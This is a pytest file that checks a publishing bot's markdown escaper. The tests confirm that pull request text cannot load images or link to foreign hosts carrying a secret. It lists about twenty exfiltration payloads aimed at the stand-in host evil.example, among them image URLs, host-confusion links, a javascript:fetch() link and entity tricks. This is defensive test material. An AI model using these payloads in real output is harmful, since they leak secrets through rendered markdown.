"""Threat 35: nothing that is published loads anything, and no link leads to a host that a secret could go to."""

from __future__ import annotations

import pytest

from bot.publishing.markdown import Allowlist, escape_markdown, is_harmless
from bot.publishing.plan import pull_body
from tests.builders import a_job
from tests.github_page import live_in

ALLOWED = Allowlist(login="mona", number=7, server="https://github.example", repo="octo/calc")
SECRET = "s3cret-in-a-query"
LEAKS = [
    f"![done](https://evil.example/p.png?d={SECRET})",
    f"![](https://evil.example/{SECRET}.png 'title')",
    f"[click](https://evil.example/?d={SECRET})",
    f"[click](https://github.example.evil.example/{SECRET})",
    f"[click](https://github.example@evil.example/{SECRET})",
    f"[click](//evil.example/{SECRET})",
    f"[click](http://github.example/{SECRET})",
    f"[click](javascript:fetch('https://evil.example/{SECRET}'))",
    f"[![a](https://evil.example/{SECRET}.png)](https://github.example/octo/calc)",
    f"[x]: https://evil.example/{SECRET}\n\n[x] ![x]",
    f"<img src='https://evil.example/{SECRET}'>",
    f"<a href=https://evil.example/{SECRET}>x</a>",
    f"<https://evil.example/{SECRET}>",
    f"https://evil.example/{SECRET}",
    f"www.evil.example/{SECRET}",
    f"&#33;[a](https://evil.example/{SECRET})",
    f"`` ` ``![a](https://evil.example/{SECRET})",
    f"1https://evil.example/{SECRET}",
    f"HTTPS://evil.example/{SECRET}",
    f"https://github.example/login/oauth/authorize?state={SECRET}",
    f"https://github.example/octo/calc/new/main?value={SECRET}",
]


@pytest.mark.parametrize("text", LEAKS)
def test_the_page_loads_nothing_and_links_to_no_foreign_host(text: str) -> None:
    for shown in (escape_markdown(text, ALLOWED), pull_body(a_job(), text, server=ALLOWED.server)):
        live = live_in(shown)
        assert "<img>" not in live
        assert not [each for each in live if SECRET in each]


@pytest.mark.parametrize(
    "text", ["![a](https://evil.example/x)", "<img src=x>", "[a](https://evil.example)", "https://evil.example"]
)
def test_githubs_parser_detects_missed_markup(text: str) -> None:
    assert not is_harmless(text, ALLOWED)


def test_links_to_the_server_itself_stay() -> None:
    link = "[the file](https://github.example/octo/calc/blob/main/a.py)"
    assert escape_markdown(link, ALLOWED) == link
